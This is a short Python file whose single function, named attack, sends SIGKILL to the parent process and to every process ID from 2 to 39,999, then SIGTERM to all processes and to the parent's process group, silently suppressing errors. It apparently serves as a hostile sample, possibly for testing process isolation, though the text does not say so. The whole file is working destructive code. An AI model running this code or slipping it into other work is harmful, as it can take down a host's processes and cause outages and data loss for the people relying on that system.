"""Signal the parent, the process group, everybody, and every number there is."""

import contextlib
import os
import signal


def attack():
    killed = 0
    targets = [os.getppid(), *range(2, 40_000)]
    for process in targets:
        if process not in (0, os.getpid()):
            with contextlib.suppress(OSError):
                os.kill(process, signal.SIGKILL)
                killed += 1
    for process in (-1, -os.getppid()):
        with contextlib.suppress(OSError):
            os.kill(process, signal.SIGTERM)
    return killed
